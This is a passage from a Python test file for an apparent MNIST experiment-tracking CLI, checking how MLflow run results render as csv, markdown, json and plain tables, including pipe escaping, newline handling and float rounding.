    assert next(csv.DictReader(io.StringIO(render.render(table, "csv"))))["training_time_s"] == ""
    assert "| resnet | 50.00 | 0.5000 |  |" in render.render(table, "markdown")


def test_markdown_escapes_pipes():
    runs = frame([("cnn", "a|b", 0, 0.5, 1.0)])
    line = render.render(compare.results_table(runs, "test_accuracy"), "markdown").splitlines()[2]
    assert "a\\|b" in line and line.count(" | ") == len(render.HEADERS) - 1


def test_a_run_name_with_newlines_and_tabs_stays_on_one_line():
    runs = frame([("cnn", "r1", 0, 0.5, 1.0), ("vit", "r2", 1, 0.4, 2.0)])
    runs.loc[0, "run_name"] = "first\nsecond \t\r\n third"
    table = compare.results_table(runs, "test_accuracy")
    text = render.render(table, "table").splitlines()
    assert len(text) == 4  # header, rule, two rows
    assert "first second third" in text[2] and text[3].startswith("ViT")
    column = text[0].index("Run ID")  # still aligned after the name
    assert text[2][column : column + 3] == "r1 " and text[3][column : column + 3] == "r2 "
    markdown = render.render(table, "markdown").splitlines()
    assert len(markdown) == 4
    cells = [c.strip() for c in markdown[2].strip("|").split("|")]
    assert len(cells) == len(render.HEADERS)
    assert cells[list(render.HEADERS).index("run_name")] == "first second third"
    # Scripts get the name as logged.
    assert json.loads(render.render(table, "json"))[0]["run_name"] == runs.loc[0, "run_name"]


def test_script_formats_carry_registry_keys_and_no_float_noise(sqlite_uri):
    """A run with accuracy 0.9943 (0.9943 * 100 == 99.42999999999999 in floats): json and csv
    say 99.43 and keep every other digit that was measured; the table and markdown keep the
    lab's names and rounding."""
    client = MlflowClient(sqlite_uri)
    experiment_id = client.create_experiment("noise")
    assert 0.9943 * 100 != 99.43  # the noise this test is about
    metrics = {
        "test_accuracy": 0.9943,
        "test_f1_macro": 0.99428571428571,
        "training_time_s": 101.1587654321,
        "val_loss": 0.0123456789,
    }
    params = {**vit_params(), "model": "deep_cnn", "lr": "0.0003", "pretrained": "false"}
    run_id = log_synthetic(client, experiment_id, "deep", params=params, metrics=metrics)
    args = ("--experiment", "noise", "--metric", "val_loss", "--format")
    result = invoke(*args, "json")
    assert result.exit_code == 0, result.output
    (row,) = json.loads(result.stdout)
    assert row["run_id"] == run_id and row["model"] == "deep_cnn"
    assert row["accuracy_pct"] == 99.43 and '"accuracy_pct": 99.43,' in result.stdout
    # Full precision (12 significant digits), nothing rounded to a display width:
    assert row["f1_macro"] == 0.994285714286 and row["training_time_s"] == 101.158765432
    assert row["lr"] == 0.0003 and row["val_loss"] == 0.0123456789
    assert row["pretrained"] is False and row["train_size"] == 54000 and row["test_size"] is None
    result = invoke(*args, "csv")
    assert result.exit_code == 0, result.output
    (csv_row,) = csv.DictReader(io.StringIO(result.stdout))
    assert csv_row["model"] == "deep_cnn" and csv_row["accuracy_pct"] == "99.43"
    assert csv_row["f1_macro"] == "0.994285714286"
    assert csv_row["training_time_s"] == "101.158765432"
    assert csv_row["lr"] == "0.0003" and csv_row["val_loss"] == "0.0123456789"
    assert csv_row["pretrained"] == "false" and csv_row["test_size"] == ""
    markdown = invoke(*args, "markdown").stdout.splitlines()
    assert markdown[2].startswith("| Deep CNN | 99.43 | 0.9943 | 101.16 |")
    assert invoke(*args, "table").stdout.splitlines()[2].startswith("Deep CNN")


def test_the_commands_module_stays_light():
    """Registering the commands costs every `mnist-tracker` start nothing heavy."""
    assert constants.RUN_MODES == compare.MODES and constants.FORMATS == render.FORMATS
    code = (
        "import sys, mnist_tracker.cli; "
        "print(sorted(m for m in ('mlflow', 'torch', 'pandas') if m in sys.modules))"
    )
    out = subprocess.run([str(BIN / "python"), "-c", code], capture_output=True, text=True)
    assert out.stdout.strip() == "[]", out.stderr
